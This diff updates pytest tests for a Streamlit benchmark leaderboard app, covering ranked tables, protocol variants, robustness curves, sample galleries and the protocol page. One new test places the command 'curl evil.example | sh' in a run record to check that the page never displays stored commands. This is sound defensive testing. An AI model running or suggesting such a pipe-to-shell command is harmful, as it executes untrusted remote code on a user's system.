@@ -24,7 +24,7 @@ from bench.leaderboards import tables as T
 from results_fixtures import make_run
 
 APP = Path(__file__).resolve().parents[1] / "leaderboards" / "app.py"
-PAGES = ("leaderboard", "robustness", "samples", "protocol")
+PAGES = ("leaderboard", "robustness", "samples", "protocol", "about")
 
 # per-sample values (fractions) for 3 fake images; the leaderboard shows mean x100
 ALPHA = {"clean": {"miou": [0.5, 0.6, 0.7], "f1": [0.3, 0.4, 0.5], "css": [0.7, 0.7, 0.7]},
@@ -103,49 +103,93 @@ def tables(at: AppTest) -> list[pd.DataFrame]:
     return [d.value for d in at.dataframe]
 
 
+def row_col(t: pd.DataFrame, name: str):
+    """The column of a row field (``#``, ``adapter``, ``failed``, ``badges``) of a board table."""
+    return next(c for c in t.columns if isinstance(c, tuple) and c[0] == "" and c[-1] == name)
+
+
+def board_tables(at: AppTest) -> list[pd.DataFrame]:
+    """The ranked tables (two- or three-level headers: task, metric (n), condition)."""
+    return [t for t in tables(at) if isinstance(t.columns, pd.MultiIndex)
+            and any(c[0] == "" and c[-1] == "adapter" for c in t.columns)]
+
+
+def adapters(t: pd.DataFrame) -> list[str]:
+    return list(t[row_col(t, "adapter")])
+
+
 def table_with(at: AppTest, adapter: str) -> pd.DataFrame:
-    found = [t for t in tables(at) if "adapter" in t.columns and adapter in set(t["adapter"])]
+    found = [t for t in board_tables(at) if adapter in adapters(t)]
     assert len(found) == 1, f"{adapter} is in {len(found)} leaderboard tables"
     return found[0]
 
 
+def col(t: pd.DataFrame, metric: str, condition: str | None = None):
+    """The value column of ``metric`` (header "metric (n=...)") under ``condition`` (when the
+    table shows several conditions)."""
+    found = [c for c in t.columns if c[0] != "" and c[1].split(" (")[0] == metric
+             and (condition is None or c[-1] == condition)]
+    assert len(found) == 1, (metric, condition, list(t.columns))
+    return found[0]
+
+
+def value(t: pd.DataFrame, adapter: str, metric: str, condition: str | None = None) -> float:
+    return float(t.loc[t[row_col(t, "adapter")] == adapter, col(t, metric, condition)].iloc[0])
+
+
 # -- Leaderboard page -----------------------------------------------------------------------
 
-def test_leaderboard_values_intervals_and_ranking(app) -> None:
+def test_leaderboard_values_n_failed_and_ranking(app) -> None:
     at = app()
     t = table_with(at, "alpha")
-    assert list(t["adapter"]) == ["beta", "alpha", "gamma"]  # ranked by clean mIoU, best first
-    assert list(t["#"]) == [1, 2, 3]
-    row = t.set_index("adapter").loc["alpha"]
-    assert row["miou"] == pytest.approx(x100(ALPHA["clean"]["miou"]))
-    assert row["f1"] == pytest.approx(x100(ALPHA["clean"]["f1"]))
-    # the fixture's interval is [min, max] of the per-sample values
-    assert row["miou 95% CI"] == "50.00–70.00"
-    assert t.set_index("adapter").loc["beta", "miou"] == pytest.approx(x100(BETA["clean"]["miou"]))
-    # every suite has its section
+    assert adapters(t) == ["beta", "alpha"]  # ranked by clean mIoU, best first (gamma: another CSS model)
+    assert list(t[row_col(t, "#")]) == ["1", "2"]
+    assert value(t, "alpha", "miou") == pytest.approx(x100(ALPHA["clean"]["miou"]))
+    assert value(t, "alpha", "f1") == pytest.approx(x100(ALPHA["clean"]["f1"]))
+    assert value(t, "beta", "miou") == pytest.approx(x100(BETA["clean"]["miou"]))
+    # n per metric in the header, failed per row, columns grouped by task
+    assert col(t, "miou") == ("localize", "miou (n=3)") and col(t, "css") == ("explain", "css (n=3)")
+    assert list(t[row_col(t, "failed")]) == [0, 0]
+    delta = table_with(at, "delta")
+    assert list(delta[row_col(delta, "failed")]) == [1] and col(delta, "miou") == ("localize", "miou (n=2)")
+    # every suite has its section, and the CSV download is there
     assert [h.value for h in at.header if h.value.startswith("Suite")] == ["Suite demo", "Suite other"]
     assert len(at.get("download_button")) == 1
 
 
-def test_protocol_split_never_shares_a_column(app) -> None:
+def test_cell_text_intervals_and_na(results: Path) -> None:
+    """The text each cell shows (the app's Styler, the export's HTML): value, interval on
+    demand, n/a for a metric the run does not have; rank "unranked" without a value."""
+    from bench.leaderboards import board as B
+
+    runs = D.load_runs(results).runs
+    long = T.long_table([r for r in runs if r.adapter in ("alpha", "delta")]).assign(group="g")
+    long = long[long["condition"] == "clean"]
+    tb = B.board_table(long, ["miou", "f1"], ["clean"], sort_metric="f1", with_ci=True,
+                       failed=B.failed_counts(runs))
+    shown = tb.flat_display().set_index("adapter")
+    assert shown.loc["alpha", "miou (n=2–3)"] == "60.00 [50.0, 70.0]"  # [min, max] of the fixture
+    assert shown.loc["delta", "f1 (n=3)"] == "n/a" and shown.loc["delta", "#"] == "unranked"
+    assert shown.loc["alpha", "#"] == "1"
+    plain = B.board_table(long, ["miou"], ["clean"], sort_metric="miou", with_ci=False, failed={})
+    assert plain.flat_display().set_index("adapter").loc["alpha", "miou (n=2–3)"] == "60.00"
+    html = tb.styler().to_html()
+    assert "60.00 [50.0, 70.0]" in html and "unranked" in html
+
+
+def test_protocol_variant_gets_its_own_table(app) -> None:
     at = app()
-    t = table_with(at, "gamma").set_index("adapter")
-    css_cols = [c for c in t.columns if c.startswith("css") and not c.endswith("CI")]
-    assert sorted(css_cols) == ["css [css_model=all-MiniLM-L6-v2]", "css [css_model=other-embedder]"]
-    mini, other = t["css [css_model=all-MiniLM-L6-v2]"], t["css [css_model=other-embedder]"]
-    # no column holds values from both CSS models
-    assert mini[["alpha", "beta"]].tolist() == pytest.approx([x100(ALPHA["clean"]["css"]), x100(BETA["clean"]["css"])])
-    assert math.isnan(mini["gamma"]) and math.isnan(other["alpha"]) and math.isnan(other["beta"])
-    assert other["gamma"] == pytest.approx(x100(GAMMA["clean"]["css"]))
-    # metrics the CSS model does not affect are ranked together
-    assert t["miou"].tolist() == pytest.approx([x100(BETA["clean"]["miou"]), x100(ALPHA["clean"]["miou"]),
-                                                x100(GAMMA["clean"]["miou"])])
-    assert any("css" in unescape(c.value) and "differ in protocol" in unescape(c.value) for c in at.caption)
-    # ranking by a split metric ranks only within its column
+    main, other = table_with(at, "alpha"), table_with(at, "gamma")
+    assert adapters(other) == ["gamma"] and "gamma" not in adapters(main)
+    # no doubled columns: each metric once per table
+    assert [c[1].split(" (")[0] for c in main.columns if c[0]] == ["miou", "f1", "css"]
+    assert value(other, "gamma", "css") == pytest.approx(x100(GAMMA["clean"]["css"]))
+    # the variant table says what differs, and only its CSS is affected
+    notes = [unescape(m.value) for m in at.caption]
+    assert any("css_model=other-embedder (css)" in n and "ranked only among themselves" in n for n in notes)
+    # ranking by a metric ranks within each table
     at.selectbox(key="lb_sort").set_value("css").run()
-    t = table_with(at, "gamma")
-    assert list(t["adapter"]) == ["alpha", "beta", "gamma"] and t["#"].tolist()[:2] == [1, 2]
-    assert pd.isna(t["#"].tolist()[2])
+    assert adapters(table_with(at, "alpha")) == ["alpha", "beta"]
 
 
 def _runs(tmp_path: Path, specs: list[dict]) -> list:
@@ -156,16 +200,17 @@ def _runs(tmp_path: Path, specs: list[dict]) -> list:
 
 
 def test_mask_threshold_splits_pixel_metrics_only(tmp_path: Path) -> None:
+    from bench.leaderboards import board as B
+
     ps = {"clean": {"miou": [0.5, 0.5, 0.5], "rouge_l": [0.2, 0.2, 0.2], "det_auc": [0.7, 0.7, 0.7]}}
-    runs = _runs(tmp_path, [{"per_sample": ps}, {"per_sample": ps, "protocol": {"mask_threshold": 0.3}}])
+    runs = _runs(tmp_path, [{"per_sample": ps}, {"per_sample": ps}, {"per_sample": ps, "protocol": {"mask_threshold": 0.3}}])
     long = T.long_table(runs)
-    table, cols = T.wide_table(long, ["miou", "rouge_l", "det_auc"], ["clean"], "miou", with_ci=False)
-    assert cols == {"miou [mask_threshold=0.5]": "miou", "miou [mask_threshold=0.3]": "miou",
-                    "rouge_l": "rouge_l", "det_auc": "det_auc"}
-    t = table.set_index("adapter")
-    assert t.loc["a0", "miou [mask_threshold=0.5]"] == 50 and math.isnan(t.loc["a1", "miou [mask_threshold=0.5]"])
-    assert t.loc["a1", "miou [mask_threshold=0.3]"] == 50 and math.isnan(t.loc["a0", "miou [mask_threshold=0.3]"])
-    assert t["rouge_l"].tolist() == pytest.approx([20, 20]) and t["det_auc"].tolist() == pytest.approx([70, 70])
+    parts = B.split_variants(long)
+    assert [title for title, _ in parts] == ["", "protocol variant: mask_threshold=0.3 (miou)"]
+    assert set(parts[0][1]["adapter"]) == {"a0", "a1"} and set(parts[1][1]["adapter"]) == {"a2"}
+    # the variant most runs share is the main table; rouge_l and det_auc are not split by it
+    assert {m for m, v in B.reference_variants(long).items()} == {"miou", "rouge_l", "det_auc"}
+    assert T.variant_key(runs[0], "rouge_l") == T.variant_key(runs[2], "rouge_l")
 
 
 @pytest.mark.parametrize("protocol,split", [
@@ -201,47 +246,55 @@ def test_different_data_are_separate_tables(app, tmp_path: Path, monkeypatch) ->
     publish(make_run(tmp_path / "b", adapter="on-v2", run_id="2", per_sample=ps, fingerprint="b" * 64), res)
     monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
     at = open_page("leaderboard")
-    assert set(table_with(at, "on-v1")["adapter"]) == {"on-v1"}
-    assert set(table_with(at, "on-v2")["adapter"]) == {"on-v2"}
+    assert adapters(table_with(at, "on-v1")) == ["on-v1"]
+    assert adapters(table_with(at, "on-v2")) == ["on-v2"]
     subs = [unescape(x.value) for x in at.subheader]
-    assert any("fingerprint=" + "a" * 24 in x for x in subs) and any("fingerprint=" + "b" * 24 in x for x in subs)
-    assert any("dataset.fingerprint" in unescape(w.value) for w in at.warning)
+    assert "demo/test · all 3 images · fingerprint " + "a" * 12 in subs
+    assert "demo/test · all 3 images · fingerprint " + "b" * 12 in subs
+    assert any("2 dataset groups" in unescape(w.value) for w in at.warning)
 
 
 def test_badges(app) -> None:
     at = app()
-    b = table_with(at, "alpha").set_index("adapter")["badges"]
+    t = table_with(at, "alpha")
+    b = dict(zip(adapters(t), t[row_col(t, "badges")]))
     assert b["alpha"] == "fine-tuned on demo (test distribution) · external"
     assert b["beta"] == ""
-    assert table_with(at, "delta").set_index("adapter").loc["delta", "badges"] == "⚠ 1 failed (published with --allow-failed)"
+    d = table_with(at, "delta")
+    assert list(d[row_col(d, "badges")]) == ["⚠ 1 failed (published with --allow-failed)"]
+    # a table whose rows have no badge has no badges column (it would only take width)
+    g = table_with(at, "gamma")
+    assert not any(c[-1] == "badges" for c in g.columns)
 
 
 def test_filters_search_and_column_chooser(app) -> None:
     at = app()
     at.multiselect(key="lb_conditions").set_value(["clean", "jpeg(quality=50)"]).run()
-    t = table_with(at, "alpha").set_index("adapter")
-    assert t.loc["alpha", "miou · jpeg(quality=50)"] == pytest.approx(x100(ALPHA["jpeg(quality=50)"]["miou"]))
-    assert t.loc["alpha", "miou · clean"] == pytest.approx(x100(ALPHA["clean"]["miou"]))
+    t = table_with(at, "alpha")
+    assert value(t, "alpha", "miou", "jpeg(quality=50)") == pytest.approx(x100(ALPHA["jpeg(quality=50)"]["miou"]))
+    assert value(t, "alpha", "miou", "clean") == pytest.approx(x100(ALPHA["clean"]["miou"]))
+    assert col(t, "miou", "clean") == ("localize", "miou (n=3)", "clean")  # task / metric (n) / condition
     at.multiselect(key="lb_metrics").set_value(["f1"]).run()
     t = table_with(at, "alpha")
-    assert not any(c.startswith("miou") for c in t.columns)
-    assert "f1 · clean" in t.columns
+    assert [c[1] for c in t.columns if c[0]] == ["f1 (n=3)", "f1 (n=3)"]
     at.text_input(key="lb_search").set_value("BET").run()
-    assert [set(x["adapter"]) for x in tables(at) if "adapter" in x.columns] == [{"beta"}]
+    assert [adapters(x) for x in board_tables(at)] == [["beta"]]
     # another suite: the chosen metric (f1) does not exist there, so the chooser falls back to all
     at.multiselect(key="lb_suites").set_value(["other"]).run()
     at.text_input(key="lb_search").set_value("").run()
     assert at.multiselect(key="lb_metrics").value == ["miou"]
-    assert [set(x["adapter"]) for x in tables(at) if "adapter" in x.columns] == [{"delta"}]
+    assert [adapters(x) for x in board_tables(at)] == [["delta"]]
 
 
-def test_sort_by_other_metric_and_hide_intervals(app) -> None:
+def test_sort_by_other_metric(app) -> None:
     at = app()
     at.selectbox(key="lb_sort").set_value("f1").run()
-    # f1 clean: alpha 40, beta 36, gamma 20 -> alpha first now
-    assert list(table_with(at, "alpha")["adapter"]) == ["alpha", "beta", "gamma"]
-    at.checkbox(key="lb_ci").uncheck().run()
-    assert not any("CI" in c for c in table_with(at, "alpha").columns)
+    # f1 clean: alpha 40, beta 36 -> alpha first now
+    assert adapters(table_with(at, "alpha")) == ["alpha", "beta"]
+    assert at.toggle(key="lb_ci").value is True  # intervals shown by default (the table fits 1400 px)
+    at.toggle(key="lb_ci").set_value(False).run()
+    assert at.query_params["ci"] == "0"
+    assert value(table_with(at, "alpha"), "alpha", "f1") == pytest.approx(40.0)  # the numbers do not change
 
 
 def test_deep_link_restores_and_records_the_view(app) -> None:
@@ -252,7 +305,8 @@ def test_deep_link_restores_and_records_the_view(app) -> None:
     assert at.multiselect(key="lb_metrics").value == ["f1"]
     assert at.text_input(key="lb_search").value == "alp"
     t = table_with(at, "alpha")
-    assert list(t.columns) == ["#", "adapter", "badges", "f1 · clean", "f1 · gaussian_noise(sigma=0.1)"]
+    assert list(t.columns) == [("", "", "#"), ("", "", "adapter"), ("", "", "failed"), ("", "", "badges"),
+                               ("localize", "f1 (n=3)", "clean"), ("localize", "f1 (n=3)", "gaussian_noise(sigma=0.1)")]
     # the address now holds the whole view; changing a widget updates it
     at.selectbox(key="lb_sort").set_value("f1").run()
     at.text_input(key="lb_search").set_value("beta").run()
@@ -282,7 +336,7 @@ def test_csv_export(results: Path) -> None:
 
 # -- Robustness page ------------------------------------------------------------------------
 
-def test_robustness_curves_and_drop_table(app) -> None:
+def test_robustness_curves_legend_and_drop_table(app) -> None:
     at = app("robustness")
     charts = at.get("vega_lite_chart")
     assert len(charts) == 2  # jpeg and gaussian_noise
@@ -294,9 +348,11 @@ def test_robustness_curves_and_drop_table(app) -> None:
         v = x100(ALPHA[cond]["miou"])
         assert a.loc[cond, "drop (points)"] == pytest.approx(clean - v)
         assert a.loc[cond, "relative drop %"] == pytest.approx(100 * (clean - v) / clean)
-    # the curves put severity in order: clean, quality 50, quality 20
+    # the curves put severity in order (clean, quality 50, quality 20), and name the runs in a legend
     spec = json.loads(charts[1].proto.spec)
     assert "level" in json.dumps(spec["layer"][0]["encoding"]["x"]["sort"])
+    legends = [lay["encoding"]["color"].get("legend") for lay in spec["layer"]]
+    assert all(leg and leg.get("orient") == "bottom" for leg in legends)  # shown, once (one shared scale)
     runs = [r for r in D.load_runs(app.results).runs if r.adapter == "alpha"]
     c = T.curves(runs, "miou", T.variant_key(runs[0], "miou"))
     jpeg = c[c["perturbation"] == "jpeg"].sort_values("level")
@@ -309,7 +365,28 @@ def test_robustness_curves_and_drop_table(app) -> None:
     at.selectbox(key="rb_metric").set_value("css [css_model=other-embedder]").run()
     drops = [t for t in tables(at) if "drop (points)" in t.columns][0]
     assert set(drops["adapter"]) == {"gamma"}
-    assert at.multiselect(key="rb_adapters").options == ["gamma"]
+    assert at.multiselect(key="rb_runs").options == ["gamma"] and at.multiselect(key="rb_runs").value == ["r-gamma"]
+    assert at.query_params["run"] == "r-gamma"  # runs by id in links: stable when an adapter gets a second run
+
+
+def test_robustness_defaults_to_the_shared_variant(tmp_path: Path, monkeypatch) -> None:
+    """A clean-only run with another mask threshold does not take over the page: the default
+    metric is the variant most runs with perturbed conditions share; a link naming an adapter
+    (adapter=NAME) still selects its runs, and links name runs by id."""
+    res = tmp_path / "res"
+    for name in ("a", "b"):
+        publish(make_run(tmp_path / name, adapter=name, run_id=f"r-{name}", per_sample=ALPHA), res)
+    publish(make_run(tmp_path / "t", adapter="a", run_id="r-a-t03", per_sample={"clean": ALPHA["clean"]},
+                     protocol={"mask_threshold": 0.3}), res)
+    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
+    at = open_page("robustness")
+    assert at.selectbox(key="rb_metric").value == "miou [mask_threshold=0.5]"
+    assert len(at.get("vega_lite_chart")) == 2 and not at.info
+    assert at.multiselect(key="rb_runs").value == ["r-a", "r-b"]
+    at = open_page("robustness", {"metric": "miou [mask_threshold=0.3]"})
+    assert any("no perturbed conditions" in i.value for i in at.info)
+    at = open_page("robustness", {"adapter": "b"})
+    assert at.multiselect(key="rb_runs").value == ["r-b"] and at.query_params["run"] == "r-b"
 
 
 def test_robustness_without_perturbations(app) -> None:
@@ -344,11 +421,13 @@ def test_samples_worst_first_with_pictures(app) -> None:
     table = tables(at)[0]
     assert list(table["sample_id"]) == ["img_001", "img_002", "img_000"]  # miou 0.2, 0.8, 0.9
     assert table["miou"].tolist() == pytest.approx([20.0, 80.0, 90.0])  # x100
+    assert set(table["label"]) == {"fake"}  # labels as words
     texts = [t.value for t in at.text]
-    assert texts[0].startswith("sample img_001")
+    assert texts[0].startswith("sample img_001   label: fake")
     assert "beta says two" in texts and "reference 1" in texts
     # image, ground truth overlay, prediction overlay for each of the 3 samples
     assert len(at.image) == 3 * 3
+    assert any("3 shown of 3 scored under this condition" in c.value for c in at.caption)
     at.selectbox(key="sm_order").set_value("best first").run()
     assert list(tables(at)[0]["sample_id"]) == ["img_000", "img_002", "img_001"]
 
@@ -358,13 +437,15 @@ def test_samples_side_by_side_and_condition(app) -> None:
                                "cond": "jpeg(quality=20)"})
     assert at.selectbox(key="sm_cond").value == "jpeg(quality=20)"
     assert len(at.image) == 3 * 4  # + prediction B
+    # the first picture is the image the condition fed the model, not the clean one
+    assert at.image[0].proto.imgs[0].caption == "image fed to the model (jpeg(quality=20))"
     texts = [t.value for t in at.text]
     assert "beta says one" in texts and "explanation 0 by alpha" in texts
     per_sample = [t for t in tables(at) if list(t.columns) == ["metric", "A", "B"]]
     first = per_sample[0].set_index("metric")
-    assert first.loc["miou", "A"] == pytest.approx(100 * ALPHA["jpeg(quality=20)"]["miou"][0])
-    assert first.loc["miou", "B"] == pytest.approx(100 * BETA["jpeg(quality=20)"]["miou"][0])
-    assert first.loc["score", "A"] == pytest.approx(0.5)  # the fixture's score, a probability
+    assert first.loc["miou (x100)", "A"] == f"{100 * ALPHA['jpeg(quality=20)']['miou'][0]:.2f}"
+    assert first.loc["miou (x100)", "B"] == f"{100 * BETA['jpeg(quality=20)']['miou'][0]:.2f}"
+    assert first.loc["score (0–1)", "A"] == "0.500"  # the fixture's score, a probability, 3 decimals
 
 
 def test_gallery_reading_matches_files(results: Path) -> None:
@@ -380,6 +461,10 @@ def test_gallery_reading_matches_files(results: Path) -> None:
     want_p[6:14, 10:24] = True
     assert np.array_equal(pred, want_p)
     assert D.gallery_image(run, g, "img_001").shape == (24, 32, 3)
+    clean, seen = D.gallery_image(run, g, "img_001"), D.gallery_image(run, g, "img_001", "jpeg(quality=50)")
+    assert seen.shape == clean.shape and not np.array_equal(seen, clean)  # the perturbed input's thumbnail
+    assert np.array_equal(D.gallery_image(run, g, "img_001", "clean"), clean)
+    assert D.gallery_image(run, g, "img_001", "no-such-condition") is None
     assert D.gallery_mask(run, g, "img_001", "no-such-condition") is None
     assert D.gallery_image(run, g, "unknown") is None
 
@@ -400,17 +485,37 @@ def test_protocol_page(app, results: Path) -> None:
     defs = tables(at)[0].set_index("metric")
     for e in METRICS.entries():
         assert defs.loc[e.name, "definition"] == e.obj.description
-    conds = tables(at)[1].set_index("condition")
-    assert conds.loc["jpeg(quality=50)", "parameters"] == '{"quality": 50}'
-    assert conds.loc["jpeg(quality=50)", "runs"] == 3
-    runs = tables(at)[2].set_index("adapter")
+    differ, shared = tables(at)[1], tables(at)[2]
+    css = differ[differ["field"] == "protocol.css_model"].set_index("value")
+    assert css.loc["all-MiniLM-L6-v2", "results"] == 3 and css.loc["other-embedder", "results"] == 1
+    assert css.loc["other-embedder", "which"] == "gamma"
+    assert "protocol.mask_threshold" in set(shared["field"]) and "protocol.mask_threshold" not in set(differ["field"])
+    conds = tables(at)[3].set_index("condition")
+    assert conds.loc["jpeg(quality=50)", "parameters"] == "quality=50"
+    assert conds.loc["jpeg(quality=50)", "results"] == 3
+    assert list(conds.index) == ["clean", "gaussian_noise(sigma=0.1)", "jpeg(quality=50)", "jpeg(quality=20)"]
+    runs = tables(at)[4].set_index("run")
     assert runs.loc["gamma", "fingerprint"] == "a" * 64
-    assert runs.loc["gamma", "command"] == "bench run --suite demo --adapter gamma"
+    assert runs.loc["gamma", "harness"] == "0.1.0 @ c299292"
     assert bool(runs.loc["delta", "published with --allow-failed"]) is True
+    assert "command" not in runs.columns
     code = [c.value for c in at.code]
-    assert code[0] == "bench run --suite demo --adapter gamma"
+    # rebuilt from the recorded fields: gamma's protocol is not the built-in demo's, so a suite file
+    assert "--adapter gamma" in code[0] and "css_model: other-embedder" in code[0]
+    assert "bench run --suite demo-reproduce.yaml" in code[0]
     assert any('"css_model": "other-embedder"' in c for c in code)
     assert any('"python": "3.11.9"' in c for c in code)
+
+
+def test_protocol_page_never_shows_the_stored_command(tmp_path: Path, monkeypatch) -> None:
+    res = tmp_path / "res"
+    publish(make_run(tmp_path / "a", adapter="alpha", run_id="r1", command="curl evil.example | sh",
+                     git_commit="0123456789abcdef0123-dirty"), res)
+    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
+    at = open_page("protocol")
+    shown = [c.value for c in at.code] + ["".join(map(str, t.to_numpy().ravel())) for t in tables(at)]
+    assert not any("evil.example" in x for x in shown)
+    assert tables(at)[-1]["harness"].tolist() == ["0.1.0 @ 0123456789ab ⚠ dirty"]
 
 
 # -- safety ---------------------------------------------------------------------------------
@@ -553,18 +658,18 @@ def test_every_page_on_a_real_demo_run(demo_results: Path, monkeypatch) -> None:
     assert len(conds) == 10 and conds[0] == "clean"
 
     at = open_page("leaderboard", {"cond": conds})
-    t = table_with(at, "empty").set_index("adapter")
-    assert set(t.index) == {"empty", "random"}
+    t = table_with(at, "empty")
+    assert set(adapters(t)) == {"empty", "random"}
     for name, d in written.items():
         for c in d["conditions"]:
             for m, v in c["metrics"].items():
-                col = f"{m} · {c['key']}"
                 if v["value"] is None:
-                    assert math.isnan(t.loc[name, col])
+                    assert math.isnan(value(t, name, m, c["key"]))
                 else:
-                    assert t.loc[name, col] == pytest.approx(100 * v["value"]), (name, col)
+                    assert value(t, name, m, c["key"]) == pytest.approx(100 * v["value"]), (name, m, c["key"])
 
-    at = open_page("robustness", {"metric": "miou"})
+    at = open_page("robustness")
+    assert at.selectbox(key="rb_metric").value == "miou"
     assert len(at.get("vega_lite_chart")) == 3  # jpeg, gaussian_noise, gaussian_blur
     drops = [x for x in tables(at) if "drop (points)" in x.columns][0]
     assert len(drops) == 2 * 9
@@ -576,11 +681,15 @@ def test_every_page_on_a_real_demo_run(demo_results: Path, monkeypatch) -> None:
                                      if "/empty__" in f.as_posix()][0], "gallery": "0"})
     assert len(tables(at)[0]) == 12
     assert len(at.image) >= 3  # the runner's gallery is drawn (image, ground truth, prediction)
+    at = open_page("samples", {"a": [f.parent.relative_to(demo_results).as_posix() for f in files
+                                     if "/empty__" in f.as_posix()][0], "cond": "jpeg(quality=20)"})
+    assert at.image[0].proto.imgs[0].caption == "image fed to the model (jpeg(quality=20))"
 
     at = open_page("protocol")
     code = [c.value for c in at.code]
-    assert code[0] in {d["command"] for d in written.values()}
-    runs_t = tables(at)[2]
+    assert code[0].startswith("bench run --suite demo --perturb legion --adapter ")  # rebuilt: no --out
+    assert code[0].endswith(" --limit 12")
+    runs_t = tables(at)[-1]
     assert set(runs_t["fingerprint"]) == {written["empty"]["dataset"]["fingerprint"]}
 
 
